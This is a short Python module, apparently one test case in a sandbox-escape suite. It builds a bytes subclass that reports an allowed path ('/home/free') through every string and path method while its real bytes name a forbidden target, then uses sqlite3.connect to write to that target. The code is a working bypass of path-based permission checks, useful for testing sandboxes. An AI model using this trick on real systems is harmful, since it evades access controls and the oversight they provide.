"""The same bytes object as a database."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import sqlite3

from . import payload

FREE = payload.ROOT + "/home/free"


class Path(bytes):
    """Says that it is somebody else, whatever it is asked."""

    def decode(self, *args):
        return FREE

    __bytes__ = __fspath__ = lambda self: FREE.encode()
    __str__ = __repr__ = lambda self: FREE
    __getitem__ = lambda self, at: FREE.encode()[at]
    __len__ = lambda self: len(FREE)
    __eq__ = lambda self, other: other == FREE.encode()
    __hash__ = lambda self: hash(FREE.encode())


def attack():
    path = Path(payload.TARGET.encode())
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE own (x)")
